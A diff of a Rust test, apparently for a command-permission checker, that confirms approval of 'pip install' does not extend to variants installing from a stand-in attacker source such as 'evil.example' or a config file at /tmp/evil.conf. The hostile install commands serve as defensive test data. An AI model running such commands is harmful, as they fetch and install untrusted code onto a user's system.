@@ -360,7 +360,7 @@ fn always_for_pip_install_does_not_allow_another_index() {
     for (n, wider) in [
         "pip install requests --index-url https://evil.example/simple",
         "pip install requests -e git+https://evil.example/pkg.git",
-        "PIP_INDEX_URL=https://evil.example/simple pip install requests",
+        "PIP_CONFIG_FILE=/tmp/evil.conf pip install requests",
     ]
     .into_iter()
     .enumerate()
